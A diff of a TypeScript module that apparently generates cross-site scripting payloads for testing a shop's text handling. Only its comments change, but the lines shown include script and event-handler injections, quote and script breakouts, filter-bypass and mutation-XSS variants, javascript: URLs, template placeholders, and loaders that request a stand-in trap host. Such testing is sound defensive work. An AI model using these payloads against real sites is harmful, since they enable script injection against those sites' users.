@@ -1,6 +1,6 @@
 /**
- * Texts that try to run in a browser. Each calls `pwn(n)` with a number of its own, or asks a host
- * that nobody has, so that whichever of them gets through can be named.
+ * Texts that try to run in a browser. Each calls `pwn(n)` with its own number, or requests a host
+ * that does not exist, so that a payload that gets through can be identified.
  */
 
 export interface Payload {
@@ -8,14 +8,14 @@ export interface Payload {
   text: string;
 }
 
-/** Asked by a payload that loads something instead of running. `.invalid` is nobody's. */
+/** Requested by a payload that loads something instead of running. `.invalid` belongs to nobody. */
 export const TRAP_HOST = 'trap.invalid';
 
 type Make = (call: string, n: number) => string;
 
 const trap = (n: number) => `//${TRAP_HOST}/${String(n)}`;
 
-/** Run wherever they are parsed as HTML; short, so that they fit into a shop's own texts. */
+/** They run wherever they are parsed as HTML; short, so that they fit into a shop's own texts. */
 const elements: readonly Make[] = [
   (c) => `<script>${c}</script>`,
   (c) => `<img src=x onerror=${c}>`,
@@ -29,7 +29,7 @@ const elements: readonly Make[] = [
   (c) => `<style onload=${c}></style>`,
 ];
 
-/** Ways out of whatever stands around the text. */
+/** Ways to break out of the context around the text. */
 const wrappings: readonly ((inner: string) => string)[] = [
   (inner) => inner,
   (inner) => `">${inner}`,
@@ -44,7 +44,7 @@ const wrappings: readonly ((inner: string) => string)[] = [
   (inner) => `\\">${inner}`,
 ];
 
-/** Other elements, and the same ones written so that a filter of letters lets them through. */
+/** Other elements, and obfuscated ones that bypass a filter of letters. */
 const disguises: readonly Make[] = [
   (c) => `<img/src/onerror=${c}>`,
   (c) => `<IMG SRC=x ONERROR=${c}>`,
@@ -110,7 +110,7 @@ const disguises: readonly Make[] = [
   (c) => `<link rel=stylesheet href=x onerror=${c}>`,
 ];
 
-/** HTML that means one thing to who cleans it and another to who shows it. */
+/** Mutation XSS: HTML that a sanitizer and a browser parse differently. */
 const mutations: readonly Make[] = [
   (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
   (c) => `<xmp><p title="</xmp><img src=x onerror=${c}>">`,
@@ -129,7 +129,7 @@ const mutations: readonly Make[] = [
   (c) => `<option><style></option></select><img src=x onerror=${c}></style>`,
 ];
 
-/** Ways out of a script, and of JSON that stands in one. */
+/** Ways to break out of a script, and of JSON inside one. */
 const scripts: readonly Make[] = [
   (c) => `";${c}//`,
   (c) => `';${c}//`,
@@ -149,7 +149,7 @@ const scripts: readonly Make[] = [
   (c) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
 ];
 
-/** Attributes, for where the quotes around a value can be left. */
+/** Attributes, for contexts where the quotes around a value can be closed. */
 const attributes: readonly Make[] = [
   (c) => `" autofocus tabindex=1 onfocus=${c} x="`,
   (c) => `' autofocus tabindex=1 onfocus=${c} x='`,
@@ -160,7 +160,7 @@ const attributes: readonly Make[] = [
   (c) => `\`" onpointerenter=${c} \``,
 ];
 
-/** What a link or a form would go to. */
+/** Targets of a link or a form. */
 const addresses: readonly Make[] = [
   (c) => `javascript:${c}`,
   (c) => `JaVaScRiPt:${c}`,
@@ -179,7 +179,7 @@ const addresses: readonly Make[] = [
   (_, n) => `\\\\${TRAP_HOST}\\${String(n)}`,
 ];
 
-/** Nothing runs, but somebody else is asked, or the page goes elsewhere. */
+/** They run nothing, but request another host, or navigate away. */
 const loaders: readonly Make[] = [
   (_, n) => `<img src=${trap(n)}>`,
   (_, n) => `<link rel=stylesheet href=${trap(n)}>`,
@@ -203,7 +203,7 @@ const loaders: readonly Make[] = [
   (_, n) => `=IMPORTXML("https:${trap(n)}","//a")`,
 ];
 
-/** What a template, or the module that puts values into sentences, would fill in. */
+/** Placeholders of templates, or of the interpolation of sentences. */
 const templates: readonly Make[] = [
   (c) => `\${${c}}`,
   (c) => `{{${c}}}`,
@@ -227,7 +227,7 @@ const templates: readonly Make[] = [
   (_, n) => `%s %d %(name)s $1 $& $\` $' ${String(n)}`,
 ];
 
-/** Letters that are others than they seem, and texts that were escaped once or twice already. */
+/** Look-alike letters, and texts that were escaped once or twice already. */
 const letters: readonly Make[] = [
   (c) => `&lt;img src=x onerror=${c}&gt;`,
   (c) => `&amp;lt;img src=x onerror=${c}&amp;gt;`,
@@ -279,23 +279,23 @@ export const payloads: readonly Payload[] = all.map((make, index) => {
   return { n, text: make(`pwn(${String(n)})`, n) };
 });
 
-/** Leaves whatever the payload before it has opened, so that the next one is met afresh. */
+/** Closes whatever the payload before it has opened, so that the next one starts clean. */
 const BETWEEN = ` --></textarea></title></style></script></template></select>"'> `;
 
-/** Several payloads as one text; `first` is the place of the one it begins with. */
+/** Joins several payloads; `first` is the index of the first one. */
 export function joined(some: readonly Payload[], first: number): string {
   const at = first % some.length;
   return [...some.slice(at), ...some.slice(0, at)].map(({ text }) => text).join(BETWEEN);
 }
 
-/** Cuts into `count` pieces, which differ by at most one in length. */
+/** Splits into `count` groups, whose sizes differ by at most one. */
 export function inGroups(some: readonly Payload[], count: number): Payload[][] {
   return Array.from({ length: count }, (_, group) =>
     some.filter((_payload, index) => index % count === group),
   );
 }
 
-/** Those that fit into a field with a bound, without what such a field refuses. */
+/** Those that fit into a field of limited length, without characters that such a field refuses. */
 export function shortPayloads(maxLength: number, refused = /\p{Cc}/u): Payload[] {
   return payloads.filter(({ text }) => {
     return text.length <= maxLength && text.trim() === text && !refused.test(text);
